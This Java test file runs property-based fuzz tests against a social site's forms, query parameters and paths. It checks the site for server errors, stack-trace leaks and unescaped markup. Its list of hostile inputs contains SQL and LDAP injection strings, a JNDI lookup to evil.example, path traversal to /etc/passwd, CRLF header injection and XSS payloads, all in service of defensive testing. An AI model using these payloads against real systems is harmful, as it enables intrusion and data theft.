package dev.flock.system;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.InputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.HttpTimeoutException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Semaphore;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.TimeoutException;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.IntFunction;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.PropertyDefaults;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.Tuple;
import net.jqwik.api.lifecycle.AfterProperty;
import org.jsoup.nodes.Element;

/**
 * Every form field, query parameter and path segment of the site gets 10,000 generated values
 * (jqwik, a fixed seed; jqwik prints the seed and the shrunk values of a failure), sent ten at a
 * time: hostile Unicode (NUL, lone surrogates, text-direction overrides, control characters), huge
 * values, markup, SQL/LDAP-style strings, broken cursors. Whatever arrives, the site answers
 * without a 5xx other than 503, without a stack trace or an exception's name on the page, without
 * reflecting markup unescaped, and a refused write stores nothing. In memory here; {@link
 * EtcdFuzzIT} runs the same properties on the replicated site. A failing try is reported as it
 * came, not shrunk: shrinking sends it again hundreds of times, which on a slow machine buried the
 * first failure under later ones.
 */
@PropertyDefaults(tries = FuzzIT.TRIES, shrinking = ShrinkingMode.OFF)
class FuzzIT {

  private static final String SEED = "20261204";

  /** Values a try sends at once, each in a request of its own. */
  static final int BATCH = 10;

  /** Tries per property: with {@link #BATCH}, 10,000 values in each of its fields. */
  static final int TRIES = 10_000 / BATCH;

  private static final ExecutorService SENDERS = Executors.newVirtualThreadPerTaskExecutor();

  /**
   * At most {@link #BATCH} requests in flight, whatever a property sends at once: sixty at a time
   * made the client's pool keep sixty connections, and the server then closed some of them before
   * answering (thousands of requests sent again, some three times over).
   */
  private static final Semaphore IN_FLIGHT = new Semaphore(BATCH);

  /**
   * The longest request head Payara's HTTP listener reads (Grizzly's 8 KiB): it answers a longer
   * one 400 and closes the connection with the rest unread, so the client may find it reset before
   * reading that answer. Such a request is refused before any of Flock's code runs.
   */
  private static final int LONGEST_HEAD = 8 * 1024;

  /** Marks generated markup: it must never come back as markup. */
  private static final String MARKER = "<b data-fz=1>";

  /** An exception's class name, or a line of a stack trace. */
  private static final Pattern LEAK =
      Pattern.compile("[A-Za-z]+(?:Exception|Error)\\b|\\bat [\\w$.]+\\(|\\.java:\\d+");

  private static final List<String> NASTY =
      List.of(
          "' OR '1'='1",
          "'; DROP TABLE users; --",
          "\" OR \"\"=\"",
          "*)(uid=*))(|(uid=*",
          "admin)(&)",
          "${jndi:ldap://evil.example/a}",
          "#{7*7}",
          "%{7*7}",
          "../../../../etc/passwd",
          "..%2f..%2fetc%2fpasswd",
          "%00",
          "\u0000",
          "\u202e\u2066evil\u2069",
          "\r\nSet-Cookie: a=b",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "//evil.example",
          "\uFEFF\u200B\u00AD",
          "𝕗𝕝𝕠𝕔𝕜",
          "👩‍👩‍👧‍👦".repeat(80),
          "Ａｌｉｃｅ",
          "alice",
          "a".repeat(21),
          " ",
          "");

  /** The client of every first attempt; its connections are kept alive between requests. */
  private static final HttpClient HTTP = client();

  private static HttpClient client() {
    return HttpClient.newBuilder()
        .version(HttpClient.Version.HTTP_1_1)
        .followRedirects(HttpClient.Redirect.NEVER)
        .connectTimeout(Duration.ofSeconds(5))
        .build();
  }

  private static final String VISITOR_TOKEN = "FuzzVisitorToken0123456789abcdefghijklmnopq";
  private static final AtomicInteger sentAgain = new AtomicInteger();

  /** Each site's fuzzing user, signed up once for all the properties of its class. */
  private static final Map<Class<?>, Fuzzer> FUZZERS = new ConcurrentHashMap<>();

  /**
   * The user whose cookies and forms the properties send: signed in twice, so that the sessions
   * page has an "End" form to send hostile ids with; and how many posts the site took from it.
   */
  private record Fuzzer(
      FlockSite.Running site,
      String user,
      String cookies,
      String csrf,
      Map<String, String> endForm,
      AtomicInteger postsAccepted) {

    static Fuzzer signUp(FlockSite.Running site) {
      String user = SiteWalkThrough.fresh("fuzz");
      Browser browser = SiteWalkThrough.registered(user, site.web(0));
      String cookies =
          "flock_session="
              + browser.cookie("flock_session")
              + "; flock_device="
              + browser.cookie("flock_device");
      Browser elsewhere = new Browser(site.web(1));
      elsewhere.open("/login");
      elsewhere.submit(
          "signin", "submit", Map.of("username", user, "password", SiteWalkThrough.PASSWORD));
      Element end =
          browser.open("/sessions").document().selectFirst("form:has(input[name=session])");
      Map<String, String> endForm = new LinkedHashMap<>();
      end.select("input[type=hidden]")
          .forEach(input -> endForm.put(input.attr("name"), input.val()));
      endForm.put(end.id() + ":submit", "End");
      return new Fuzzer(
          site, user, cookies, HostileRequests.tokenOnPage(browser), endForm, new AtomicInteger());
    }
  }

  private final FlockSite.Running site;
  private final String user;
  private final String cookies;
  private final String csrf;
  private final String visitorCookies = "flock_csrf=" + VISITOR_TOKEN;
  private final Fuzzer fuzzer;

  FuzzIT() {
    fuzzer = FUZZERS.computeIfAbsent(getClass(), type -> Fuzzer.signUp(site()));
    site = fuzzer.site();
    user = fuzzer.user();
    cookies = fuzzer.cookies();
    csrf = fuzzer.csrf();
  }

  /** The site fuzzed: the in-memory one here. */
  FlockSite.Running site() {
    return FlockSite.sharedInMemory();
  }

  /** After each property: the user's profile counts exactly the posts the site said it took. */
  @AfterProperty
  void refusedWritesStoredNothing() {
    int accepted = fuzzer.postsAccepted().get();
    System.out.printf(
        "%s: %d posts accepted, %d requests sent again after a connection closed first%n",
        getClass().getSimpleName(), accepted, sentAgain.get());
    String profile = new Browser(site.web(1)).open("/users/" + user).text();
    assertThat(profile).contains(accepted + (accepted == 1 ? " post" : " posts"));
  }

  @Provide
  Arbitrary<List<String>> batch() {
    return hostile().list().ofSize(BATCH);
  }

  Arbitrary<String> hostile() {
    return Arbitraries.frequencyOf(
        Tuple.of(4, Arbitraries.strings().all().ofMaxLength(40)),
        Tuple.of(3, Arbitraries.of(NASTY)),
        Tuple.of(
            2,
            Arbitraries.strings()
                .withChars("\u0000\u0001\u001f\u007f\u202a\u202e\u2066\u2069\r\n\t<>&\"'%/\\;:=+#?")
                .withCharRange('a', 'z')
                .ofMaxLength(30)),
        Tuple.of(
            2,
            Arbitraries.strings()
                .withCharRange('\uD800', '\uDFFF')
                .withCharRange('\u0300', '\u036F')
                .ofMaxLength(12)),
        Tuple.of(2, Arbitraries.strings().alpha().ofMaxLength(20).map(s -> s + MARKER + s)),
        Tuple.of(
            1, Arbitraries.strings().withCharRange('a', 'z').ofMinLength(250).ofMaxLength(9000)),
        // within the web tier's 8,000 characters but three bytes each in UTF-8 (up to 23 KB)
        Tuple.of(
            1,
            Arbitraries.strings()
                .withCharRange('\u4e00', '\u9fff')
                .ofMinLength(5_000)
                .ofMaxLength(7_900)),
        Tuple.of(1, Arbitraries.integers().between(8_001, 70_000).map("x"::repeat)));
  }

  @Property(seed = SEED)
  void signUp(@ForAll("batch") List<String> usernames, @ForAll("batch") List<String> passwords) {
    sendAll(
        i ->
            post(
                "/register",
                visitorCookies,
                form(
                    "signup",
                    VISITOR_TOKEN,
                    Map.of(
                        "username",
                        usernames.get(i),
                        "password",
                        passwords.get(i),
                        "passwordAgain",
                        passwords.get(i)))));
  }

  @Property(seed = SEED)
  void signIn(
      @ForAll("batch") List<String> usernames,
      @ForAll("batch") List<String> passwords,
      @ForAll("batch") List<String> nexts) {
    sendAll(
        i -> {
          Map<String, String> fields =
              new LinkedHashMap<>(
                  form(
                      "signin",
                      VISITOR_TOKEN,
                      Map.of("username", usernames.get(i), "password", passwords.get(i))));
          fields.put("next", nexts.get(i));
          return post("/login", visitorCookies, fields);
        });
  }

  @Property(seed = SEED)
  void compose(@ForAll("batch") List<String> texts) {
    for (HttpResponse<String> answer :
        sendAll(i -> post("/", cookies, form("compose", csrf, Map.of("text", texts.get(i)))))) {
      if (answer.statusCode() == 303
          && answer.headers().firstValue("Location").orElse("").contains("notice=posted")) {
        fuzzer.postsAccepted().incrementAndGet();
      }
    }
  }

  @Property(seed = SEED)
  void follow(@ForAll("batch") List<String> names) {
    sendAll(
        i -> {
          Map<String, String> fields = new LinkedHashMap<>(form("follow", csrf, Map.of()));
          fields.remove("follow:submit");
          fields.put("follow:follow", "follow");
          fields.put("name", names.get(i));
          return post("/profile.xhtml", cookies, fields);
        });
  }

  @Property(seed = SEED)
  void changePassword(
      @ForAll("batch") List<String> currents, @ForAll("batch") List<String> replacements) {
    sendAll(
        i ->
            post(
                "/settings",
                cookies,
                form(
                    "password",
                    csrf,
                    Map.of(
                        "current",
                        currents.get(i),
                        "new",
                        replacements.get(i),
                        "again",
                        replacements.get(i)))));
  }

  @Property(seed = SEED)
  void deleteAccount(@ForAll("batch") List<String> passwords) {
    sendAll(
        i ->
            post("/settings", cookies, form("delete", csrf, Map.of("password", passwords.get(i)))));
  }

  @Property(seed = SEED)
  void search(@ForAll("batch") List<String> queries, @ForAll("batch") List<String> cursors) {
    sendAll(
        i -> get("/users?q=" + encode(queries.get(i)) + "&after=" + encode(cursors.get(i)), ""));
  }

  @Property(seed = SEED)
  void homeCursorAndNotice(
      @ForAll("batch") List<String> cursors, @ForAll("batch") List<String> notices) {
    sendAll(
        i ->
            get(
                "/?before=" + encode(cursors.get(i)) + "&notice=" + encode(notices.get(i)),
                cookies));
  }

  /** Each segment on a profile (with a hostile {@code before}) and on its followers' list. */
  @Property(seed = SEED)
  void pathSegments(
      @ForAll("batch") List<String> segments,
      @ForAll("batch") List<String> befores,
      @ForAll("batch") List<String> afters) {
    sendAll(
        i -> {
          String name = segment(segments.get(i % BATCH));
          return i < BATCH
              ? get("/users/" + name + "?before=" + encode(befores.get(i)), "")
              : get(
                  "/users/" + name + "/followers?after=" + encode(afters.get(i - BATCH)), cookies);
        },
        2 * BATCH);
  }

  /**
   * The cursors of the global timeline, a user's likes, a post's page, a hashtag's page and the
   * mentions, and a post's id and a hashtag in the path.
   */
  @Property(seed = SEED)
  void listsOfPosts(@ForAll("batch") List<String> cursors, @ForAll("batch") List<String> segments) {
    sendAll(
        i -> {
          String cursor = encode(cursors.get(i % BATCH));
          String segment = segment(segments.get(i % BATCH));
          return switch (i / BATCH) {
            case 0 -> get("/explore?before=" + cursor, "");
            case 1 -> get("/users/" + user + "/likes?before=" + cursor, cookies);
            case 2 -> get("/posts/" + segment + "?after=" + cursor, cookies);
            case 3 -> get("/tags/" + segment + "?before=" + cursor, "");
            default -> get("/mentions?before=" + cursor, cookies);
          };
        },
        5 * BATCH);
  }

  /**
   * The ♥ button every post has (the page's one like form, {@code partials/like-form.xhtml}): a
   * hostile post in the pressed button, like or unlike, and a hostile address to go back to.
   */
  @Property(seed = SEED)
  void likeButton(@ForAll("batch") List<String> posts, @ForAll("batch") List<String> backs) {
    sendAll(
        i ->
            post(
                "/like",
                cookies,
                sharedForm(
                    "like", i % 2 == 0 ? "like:like" : "like:unlike", posts.get(i), backs.get(i))));
  }

  /**
   * The Follow / Unfollow buttons of every list of people (the page's one follow form, {@code
   * partials/follow-form.xhtml}): a hostile name in the pressed button and a hostile way back.
   */
  @Property(seed = SEED)
  void followButton(@ForAll("batch") List<String> names, @ForAll("batch") List<String> backs) {
    sendAll(
        i ->
            post(
                "/follow",
                cookies,
                sharedForm(
                    "follow",
                    i % 2 == 0 ? "follow:follow" : "follow:unfollow",
                    names.get(i),
                    backs.get(i))));
  }

  /**
   * The live feed's resume points, {@code ?after=} and {@code Last-Event-ID}. A value it takes
   * opens a stream that lasts minutes: what it says in 300 ms is checked, then it is closed.
   */
  @Property(seed = SEED)
  void liveFeed(@ForAll("batch") List<String> afters, @ForAll("batch") List<String> lastEventIds) {
    IntStream.range(0, BATCH)
        .mapToObj(
            i ->
                CompletableFuture.runAsync(
                    () -> openBriefly(liveFeed(i, afters, lastEventIds)), SENDERS))
        .toList()
        .forEach(CompletableFuture::join);
  }

  /**
   * The {@code i}th request of a batch: a hostile {@code ?after=}, and every other one a header.
   */
  private HttpRequest.Builder liveFeed(int i, List<String> afters, List<String> lastEventIds) {
    HttpRequest.Builder request =
        HttpRequest.newBuilder(site.web(0).resolve("/live/home?after=" + encode(afters.get(i))))
            .header("Accept", "text/event-stream")
            .header("Cookie", cookies);
    String lastEventId = lastEventIds.get(i);
    if (i % 2 == 1 && lastEventId.chars().noneMatch(c -> c < ' ' || c == 0x7f || c > 0xff)) {
      request.header("Last-Event-ID", lastEventId); // the client sends only valid headers
    }
    return request;
  }

  /**
   * The fields of a page's shared like or follow form, with {@code button} pressed on {@code
   * value}.
   */
  private Map<String, String> sharedForm(String id, String button, String value, String back) {
    Map<String, String> fields = new LinkedHashMap<>();
    fields.put(id, id);
    fields.put("_csrf", csrf);
    fields.put("back", back);
    fields.put("jakarta.faces.ViewState", "stateless");
    fields.put(button, value);
    return fields;
  }

  /** The "End" button of the sessions page, naming a hostile session. */
  @Property(seed = SEED)
  void endSession(@ForAll("batch") List<String> sessions) {
    sendAll(
        i -> {
          Map<String, String> fields = new LinkedHashMap<>(fuzzer.endForm());
          fields.put("session", sessions.get(i));
          return post("/sessions", cookies, fields);
        });
  }

  /**
   * Sends the requests of one batch at once (the site is not waited on one request at a time) and
   * checks every answer; returns them, but for those the listener refused unanswered.
   */
  private static List<HttpResponse<String>> sendAll(IntFunction<HttpResponse<String>> request) {
    return sendAll(request, BATCH);
  }

  private static List<HttpResponse<String>> sendAll(
      IntFunction<HttpResponse<String>> request, int count) {
    List<CompletableFuture<HttpResponse<String>>> sent =
        IntStream.range(0, count)
            .mapToObj(i -> CompletableFuture.supplyAsync(() -> request.apply(i), SENDERS))
            .toList();
    List<HttpResponse<String>> answers =
        sent.stream().map(CompletableFuture::join).filter(Objects::nonNull).toList();
    answers.forEach(FuzzIT::check);
    return answers;
  }

  // ---- the checks ----------------------------------------------------------------------------

  private static void check(HttpResponse<String> answer) {
    check(answer.statusCode(), answer.request().uri(), answer.body());
  }

  private static void check(int status, URI uri, String body) {
    assertThat(status / 100 != 5 || status == 503).as("status %d for %s", status, uri).isTrue();
    assertThat(LEAK.matcher(body).find())
        .as("an exception or a stack trace in the answer to %s:%n%s", uri, body)
        .isFalse();
    assertThat(body).as("markup reflected unescaped").doesNotContain(MARKER);
  }

  private static Map<String, String> form(String id, String token, Map<String, String> fields) {
    Map<String, String> all = new LinkedHashMap<>();
    all.put(id, id);
    all.put("_csrf", token);
    fields.forEach((name, value) -> all.put(id + ":" + name, value));
    all.put(id + ":submit", "submit");
    all.put("jakarta.faces.ViewState", "stateless");
    return all;
  }

  private HttpResponse<String> post(String path, String cookie, Map<String, String> fields) {
    String body =
        fields.entrySet().stream()
            .map(e -> encode(e.getKey()) + "=" + encode(e.getValue()))
            .collect(Collectors.joining("&"));
    return send(
        HttpRequest.newBuilder(site.web(0).resolve(path))
            .header("Content-Type", "application/x-www-form-urlencoded")
            .header("Sec-Fetch-Site", "same-origin")
            .header("Cookie", cookie)
            .POST(HttpRequest.BodyPublishers.ofString(body)));
  }

  private HttpResponse<String> get(String pathAndQuery, String cookie) {
    HttpRequest.Builder request = HttpRequest.newBuilder(site.web(0).resolve(pathAndQuery));
    if (!cookie.isEmpty()) {
      request.header("Cookie", cookie);
    }
    return send(request.GET());
  }

  /**
   * Sends a request whose answer may be an endless stream, and checks its head and what its body
   * says in its first 300 ms; then it is closed.
   */
  private static void openBriefly(HttpRequest.Builder request) {
    HttpResponse<InputStream> answer = send(request, HttpResponse.BodyHandlers.ofInputStream());
    if (answer == null) {
      return; // refused by the listener
    }
    try (InputStream body = answer.body()) {
      var firstSecond = CompletableFuture.supplyAsync(() -> readAll(body), SENDERS);
      String said;
      try {
        said = firstSecond.get(300, TimeUnit.MILLISECONDS);
      } catch (TimeoutException stillOpen) {
        said = "";
      }
      check(answer.statusCode(), answer.request().uri(), said);
    } catch (IOException | ExecutionException closed) {
      // what closing a stream says: the head has been checked
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    }
  }

  /** What the body says until it ends or is closed. */
  private static String readAll(InputStream body) {
    var said = new java.io.ByteArrayOutputStream();
    try {
      body.transferTo(said);
    } catch (IOException closed) {
      // closed after 300 ms: what came until then is checked
    }
    return said.toString(StandardCharsets.UTF_8);
  }

  /**
   * Sends again, once, on a new connection of its own, when a kept-alive connection of the pool
   * closed before any answer (the server may end a connection just as the client hands it out
   * again), as browsers do (RFC 9112, 9.3.1). A fresh connection that closes without an answer is
   * the site's failure. A request that timed out is never sent again: the site may have done it (a
   * post sent twice is stored twice). A request with a head longer than the listener reads may find
   * its 400 lost in the reset ({@link #LONGEST_HEAD}): that is its refusal, and it is not sent
   * again.
   */
  private static HttpResponse<String> send(HttpRequest.Builder request) {
    return send(request, HttpResponse.BodyHandlers.ofString());
  }

  private static <T> HttpResponse<T> send(
      HttpRequest.Builder request, HttpResponse.BodyHandler<T> body) {
    HttpRequest built = request.timeout(Duration.ofSeconds(30)).build();
    try {
      IN_FLIGHT.acquire();
      try {
        try {
          return HTTP.send(built, body);
        } catch (HttpTimeoutException slow) {
          throw slow;
        } catch (IOException closedBeforeAnAnswer) {
          if (headLength(built) > LONGEST_HEAD) {
            return null; // refused by the listener, its answer lost in the reset: nothing to check
          }
          sentAgain.incrementAndGet();
          System.out.printf(
              "FuzzIT: sending again on a new connection %s %.80s (%s)%n",
              built.method(), built.uri().getRawPath(), closedBeforeAnAnswer);
          try (HttpClient fresh = client()) {
            return fresh.send(built, body);
          }
        }
      } finally {
        IN_FLIGHT.release();
      }
    } catch (HttpTimeoutException slow) {
      throw new AssertionError(
          "no answer in 30 s to %s %.200s".formatted(built.method(), built.uri()), slow);
    } catch (IOException closedOnAFreshConnection) {
      throw new java.io.UncheckedIOException(closedOnAFreshConnection);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
      throw new IllegalStateException(e);
    }
  }

  /** At least the length of the request's head: its request line and headers. */
  private static int headLength(HttpRequest request) {
    return request.uri().getRawPath().length()
        + Objects.requireNonNullElse(request.uri().getRawQuery(), "").length()
        + request.headers().map().entrySet().stream()
            .mapToInt(
                header ->
                    header.getValue().stream()
                        .mapToInt(value -> header.getKey().length() + value.length() + 4)
                        .sum())
            .sum();
  }

  /** {@code value} as one path segment. */
  private static String segment(String value) {
    return encode(value).replace("+", "%20");
  }

  /** UTF-8 percent-encoding; a lone surrogate becomes '?', as a browser would send it. */
  private static String encode(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8);
  }
}
